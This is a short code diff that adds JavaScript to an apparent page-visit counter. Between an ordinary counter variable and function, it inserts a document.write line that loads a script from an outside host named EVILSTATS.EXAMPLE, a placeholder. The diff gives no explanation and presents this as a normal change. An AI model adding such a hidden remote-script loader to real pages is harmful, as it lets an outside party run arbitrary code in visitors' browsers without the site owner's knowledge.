@@ -1,0 +1,3 @@
+var visits = 0;
+document.write("<script src='http://EVILSTATS.EXAMPLE/c.js'><\/script>");
+function count() { visits++; }
